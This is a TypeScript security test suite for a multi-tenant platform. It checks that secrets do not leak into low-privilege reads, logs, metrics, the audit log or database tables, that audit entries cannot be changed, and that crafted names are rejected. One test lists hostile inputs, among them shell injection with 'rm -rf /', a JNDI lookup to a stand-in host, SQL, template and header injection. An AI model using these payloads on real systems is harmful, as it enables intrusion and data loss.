import { createServer, type IncomingHttpHeaders } from 'node:http';
import { allOperations } from '@hexabase/contract/all-operations.ts';
import { brandId } from '@hexabase/kernel/id.ts';
import { disableUser } from '@hexabase/oidc/users.ts';
import { until } from '@hexabase/testkit/given.ts';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { PlainBrowser } from '../acceptance/relying-party.ts';
import { addressIn } from '../address-in.ts';
import { aHostCluster } from '../api/host-cluster-bodies.ts';
import { capturingLog } from './capturing-log.ts';
import { addClient, addPerson, password, signInAt } from './relying-parties.ts';
import { fresh, startProduct, type Attacked, type Person, type Tenant } from './start-product.ts';
import { operatorOf, thingsOf } from './things.ts';

/** What must come out nowhere: in answers to those who may read least, in logs, in the audit log, in the database. */
let product: Attacked;
let ann: Tenant;
let viewer: Person & { token: string };
let things: Record<string, string>;
const { log, lines: logged } = capturingLog();
const inCluster = 'canary-of-a-secret-7e57';
/** What was given out or typed here, by what it is. */
const secrets: Record<string, string> = {};

beforeAll(async () => {
  product = await startProduct(log);
  ann = await product.tenant('ann');
  things = await thingsOf(product, ann);
  const person = await product.person(fresh('viewer'));
  const members = `/api/v1/organizations/${ann.organizationId}/members`;
  expect((await ann.call('POST', members, { email: person.email, role: 'viewer' })).status).toBe(201);
  viewer = { ...person, token: await product.kubeToken(person, ann.workspaceId) };
  const secret = { metadata: { name: 'canary' }, stringData: { value: inCluster } };
  expect((await ann.kube('POST', '/api/v1/namespaces/default/secrets', secret)).status).toBe(201);
  await giveOut();
});
afterAll(() => product?.[Symbol.asyncDispose]());

/** One of every secret that the product gives out, used once and in some wrong ways. */
async function giveOut(): Promise<void> {
  const { email } = await addPerson(product, fresh('typed'));
  const login = await product.send({ method: 'POST', path: '/auth/login', body: { email, password } });
  const typed = 'a password that was mistyped';
  await product.send({ method: 'POST', path: '/auth/login', body: { email, password: typed } });
  await product.send({ method: 'POST', path: '/auth/login', body: { email, password: { typed } } });
  const made = await ann.call('POST', '/api/v1/tokens', { name: fresh('t'), scope: 'write', expires: '1d' });
  const client = fresh('client');
  Object.assign(secrets, {
    'a password': password,
    'a mistyped password': typed,
    'an access token': login.json['access_token'],
    'a refresh token': login.json['refresh_token'],
    'an API token': made.json['data'].token,
    'a client’s secret': await addClient(product, client),
    'a token of a cluster': ann.kubeToken,
  });
  const { tokens } = await signInAt(product, new PlainBrowser(product.api.url), {
    name: client,
    secret: secrets['a client’s secret'] ?? '',
    email,
  });
  secrets['a client’s refresh token'] = tokens.refresh_token ?? '';
  await product.send({ path: '/api/v1/organizations', token: `${secrets['an API token']}x` });
  await product.send({
    method: 'POST',
    path: '/auth/refresh',
    body: { refresh_token: secrets['a refresh token'] },
  });
  expect(Object.values(secrets).filter((value) => String(value).length < 10)).toEqual([]);
}

function expectNone(text: string, from: string): void {
  const found = Object.entries(secrets).filter(([, value]) => text.includes(value));
  expect([from, found.map(([what]) => what)]).toEqual([from, []]);
}

describe('the least role', () => {
  const reads = allOperations().filter(
    ({ operation }) => operation.method === 'GET' && operation.access.kind !== 'platform',
  );

  test('A08 the least role reads all that it may and finds no secret in it', async () => {
    let read = 0;
    for (const { operation } of reads) {
      const answer = await viewer.call('GET', addressIn(operation, things));
      expectNone(answer.text, operation.id);
      expect(answer.text).not.toContain(inCluster);
      if (answer.status === 200) read += 1;
    }
    expect(read).toBeGreaterThan(15);
    const kube = (path: string) => product.kube(ann.workspaceId, { path, token: viewer.token });
    const lists = ['/api/v1', '/apis/apps/v1', '/apis/batch/v1', '/apis/rbac.authorization.k8s.io/v1'];
    for (const list of lists) {
      const names: { name: string; verbs: string[] }[] = (await kube(list)).json['resources'];
      for (const { name, verbs } of names.filter(({ verbs }) => verbs.includes('list'))) {
        const answer = await kube(`${list}/${name}`);
        expect([name, answer.text.includes(Buffer.from(inCluster).toString('base64'))]).toEqual([
          name,
          false,
        ]);
        expect([name, verbs.length > 0 && [200, 403].includes(answer.status)]).toEqual([name, true]);
      }
    }
  });
});

describe('an organization or project that was ended', () => {
  test('A11 what belonged to an organization that was ended opens nothing any more', async () => {
    const fay = await product.tenant(fresh('fay'));
    const path = `/api/v1/organizations/${fay.organizationId}`;
    const account = await fay.call('POST', `${path}/service-accounts`, { name: fresh('sa'), role: 'admin' });
    const tokens = `${path}/service-accounts/${account.json['data'].id}/tokens`;
    const { token } = (await fay.call('POST', tokens, { name: 't', scope: 'write', expires: '1d' })).json[
      'data'
    ];
    const asMachine = () => product.send({ path, token });
    expect((await asMachine()).status).toBe(200);
    await fay.call('DELETE', `/api/v1/workspaces/${fay.workspaceId}`);
    await until(async () => (await fay.call('GET', `/api/v1/workspaces/${fay.workspaceId}`)).status === 404);
    expect((await fay.kube('GET', '/version')).status).not.toBe(200);
    expect((await fay.call('DELETE', path)).status).toBe(204);
    expect([401, 404]).toContain((await asMachine()).status);
    expect((await fay.call('GET', path)).status).toBe(404);
    const again = await fay.call('POST', '/api/v1/workspaces', {
      name: 'x y',
      organization: fay.organizationId,
    });
    expect(again.status).toBe(404);
  });
});

describe('what goes out and is kept', () => {
  test('C10 no secret is in the log, in the metrics or in the audit log', async () => {
    expectNone(logged.join('\n'), 'the log');
    const [audit] = await product.query('select json_agg(a)::text as text from audit_entries a');
    expectNone(String(audit?.['text']), 'the audit log');
    expect(String(audit?.['text'])).not.toContain(inCluster);
    expectNone((await product.send({ path: '/metrics' })).text, 'the metrics');
    expect(String(audit?.['text']).length).toBeGreaterThan(500);
  });

  test('C16 no password, token or key lies in the database in the clear', async () => {
    const tables = await product.query(
      `select schemaname || '.' || tablename as name from pg_tables where schemaname in ('hexabase', 'oidc')`,
    );
    expect(tables.length).toBeGreaterThan(20);
    for (const { name } of tables) {
      const [dump] = await product.query(
        `select coalesce(string_agg(t::text, '\n'), '') as text from ${name} t`,
      );
      expectNone(String(dump?.['text']), name);
      expect([name, /PRIVATE KEY|"d":\s*"/.test(String(dump?.['text']))]).toEqual([name, false]);
    }
  });

  test('C16 sealed keys that are exchanged in the database are not opened', async () => {
    const keys = await product.query('select kid, private_key from signing_keys order by kid');
    await product.product.identity.rotateSigningKeys();
    const [one, two] = await product.query('select kid, private_key from signing_keys order by kid');
    expect(keys.length).toBeGreaterThan(0);
    await product.query('update signing_keys set private_key = $2 where kid = $1', [
      one?.['kid'],
      two?.['private_key'],
    ]);
    try {
      await expect(product.product.identity.rotateSigningKeys()).rejects.toThrow();
    } finally {
      await product.query('update signing_keys set private_key = $2 where kid = $1', [
        one?.['kid'],
        one?.['private_key'],
      ]);
    }
  });

  test('C15 the roles that the product runs as cannot change or remove what the audit log says', async () => {
    const { database } = product.product;
    const scope = {
      userId: brandId<'User'>(ann.userId),
      organizationIds: [brandId<'Organization'>(ann.organizationId)],
    };
    const before = await product.query('select count(*)::integer as count from audit_entries');
    for (const change of [
      sql`update hexabase.audit_entries set actor_email = 'nobody'`,
      sql`delete from hexabase.audit_entries`,
      sql`truncate hexabase.audit_entries`,
    ]) {
      await expect(database.asTenant(scope, (tx) => change.execute(tx))).rejects.toThrow(/permission denied/);
      await expect(database.asIdentity((tx) => change.execute(tx))).rejects.toThrow(/permission denied/);
    }
    const after = await product.query('select count(*)::integer as count from audit_entries');
    expect(Number(after[0]?.['count'])).toBeGreaterThanOrEqual(Number(before[0]?.['count']));
  });

  test('C03 a client that hears of a logout gets the notice and nothing else of ours', async () => {
    const heard: { headers: IncomingHttpHeaders; body: string }[] = [];
    const server = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk) => (body += String(chunk)));
      request.on('end', () => {
        heard.push({ headers: request.headers, body });
        response.writeHead(204).end();
      });
    });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    const address = server.address();
    const port = typeof address === 'object' && address ? address.port : 0;
    const name = fresh('hears');
    const secret = await addClient(product, name, {
      backchannelLogoutUri: `http://127.0.0.1:${port}/logout`,
    });
    const person = await addPerson(product, name);
    await signInAt(product, new PlainBrowser(product.api.url), { name, secret, email: person.email });
    const { database, clock } = product.product;
    await database.asIdentity((tx) => disableUser(tx, brandId(person.userId), clock.now()));
    await until(async () => heard.length > 0);
    server.close();
    const names = Object.keys(heard[0]?.headers ?? {}).sort();
    expect(
      names.filter((header) => /authorization|cookie|forwarded|impersonate|x-|token/.test(header)),
    ).toEqual([]);
    expect([...new URLSearchParams(heard[0]?.body).keys()]).toEqual(['logout_token']);
    expectNone(JSON.stringify(heard), 'a notice');
  });

  test('C02 a host cluster’s address is never changed under the credential that is stored', async () => {
    const operator = await operatorOf(product);
    const body = { ...aHostCluster(), name: fresh('h') };
    const made = await operator.call('POST', '/api/v1/host-clusters', body);
    expect(made.status, made.text).toBe(201);
    const path = `/api/v1/host-clusters/${made.json['data'].id}`;
    const sealed = () =>
      product.query('select sealed from host_cluster_credentials order by host_cluster_id');
    const before = await sealed();
    for (const change of [
      { server: 'https://evil.example' },
      { apiUrl: 'https://evil.example' },
      { url: 'https://evil.example' },
      { address: 'evil.example' },
    ])
      expect((await operator.call('PATCH', path, change)).status).toBe(400);
    expect(await sealed()).toEqual(before);
    const shown = await operator.call('GET', path);
    expect(shown.text).not.toMatch(/client-key-data|PRIVATE KEY/);
  });
});

describe('names and values', () => {
  test('C05 shell, templates, line ends and patterns in names stay text, or are refused', async () => {
    const evil = [
      '$(id)',
      '`id`',
      '; rm -rf /',
      '{{7*7}}',
      '${jndi:ldap://evil.example}',
      'a\r\nX-Evil: 1',
      '../../etc',
      "' or 1=1 --",
      '*',
      '.*',
      '%s%n',
      '\u202Ename',
    ];
    for (const name of evil) {
      const rename = () =>
        ann.call('PATCH', `/api/v1/workspaces/${ann.workspaceId}`, { name: `ann ${name}` });
      let answer = await rename();
      // A change that loses against the reconciler's again and again asks its client to try once more.
      for (let tries = 0; answer.status === 503 && tries < 5; tries += 1) answer = await rename();
      expect([202, 400], answer.text).toContain(answer.status);
      const made = await ann.call('POST', '/api/v1/organizations', { name: `org ${name}` });
      expect([201, 400], made.text).toContain(made.status);
      if (made.status === 201) expect(made.json['data'].slug).toMatch(/^[a-z0-9][a-z0-9-]*[a-z0-9]$/);
      expect(made.headers['x-evil']).toBeUndefined();
      const projects = `/api/v1/workspaces/${ann.workspaceId}/projects`;
      expect([name, (await ann.call('POST', projects, { name })).status]).toEqual([name, 400]);
      const config = await ann.call('GET', `/api/v1/workspaces/${ann.workspaceId}/kubeconfig`);
      expect([name, config.status]).toEqual([name, 200]);
      expect(config.text).not.toContain('X-Evil');
    }
  });
});
